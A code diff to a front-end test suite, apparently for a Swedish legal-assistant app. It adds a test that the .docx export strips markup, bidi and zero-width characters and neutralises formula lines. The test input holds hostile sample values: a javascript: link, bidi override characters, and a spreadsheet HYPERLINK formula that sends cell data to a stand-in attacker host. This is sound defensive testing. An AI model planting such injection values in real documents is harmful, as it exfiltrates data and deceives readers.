@@ -35,11 +35,11 @@ const VERSION = {
   systemUpdate: '2026-11-01',
 };
 
-const renderActions = () => {
+const renderActions = (shown: AssistantChatMessage = message) => {
   const user = userEvent.setup();
   render(
     <QueryClientProvider client={new QueryClient({ defaultOptions: { queries: { retry: false } } })}>
-      <CaseFileActions message={message} />
+      <CaseFileActions message={shown} />
     </QueryClientProvider>,
   );
   return user;
@@ -112,6 +112,41 @@ describe('CaseFileActions', () => {
     expect(value).toContain('Validering\n\n1 av 2 påståenden stöds av källorna.');
     expect(value).not.toContain('Validering:');
     await waitFor(() => expect(getToasts().at(-1)).toMatchObject({ title: 'Dokumentet är nedladdat' }));
+  }, 20_000);
+
+  it('gives the .docx the same cleaning as the copy: no markup, bidi or zero-width characters, no formula lines', async () => {
+    const files: Blob[] = [];
+    Object.assign(URL, {
+      createObjectURL: vi.fn((blob: Blob) => {
+        files.push(blob);
+        return 'blob:case-file';
+      }),
+      revokeObjectURL: vi.fn(),
+    });
+    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
+    const user = renderActions({
+      ...message,
+      userQuestion: 'Gäller \u202Edet\u202C här?',
+      content: [
+        '**Kort svar**',
+        'Ja \u2067om\u2069 upplåtelsen är lång\u200Bvarig (4 § lag (2018:222) om bostadsanpassningsbidrag).',
+        '<b>Fet</b> text och [en länk](javascript:alert(1)) här.',
+        '=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
+        '@SUM(1;2)',
+      ].join('\n'),
+    });
+    await user.click(screen.getByRole('button', { name: 'Exportera (.docx)' }));
+    await waitFor(() => expect(files).toHaveLength(1), { timeout: 15_000 });
+    const { value } = await mammoth.extractRawText({
+      buffer: Buffer.from(await (files[0] as Blob).arrayBuffer()),
+    });
+    expect(value).not.toMatch(/[\u061C\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\uFEFF]/);
+    expect(value).toContain('Gäller det här?');
+    expect(value).toContain('Ja om upplåtelsen är långvarig [1].');
+    expect(value).toContain('Fet text och en länk här.');
+    expect(value).not.toMatch(/javascript|<b>/);
+    expect(value).toContain('\'=HYPERLINK("https://evil.example/?"&A1;"Klicka")');
+    expect(value).toContain("'@SUM(1;2)");
   }, 20_000);
 
   it('opens a print view with the question, the answer and the footnotes, and prints it', async () => {
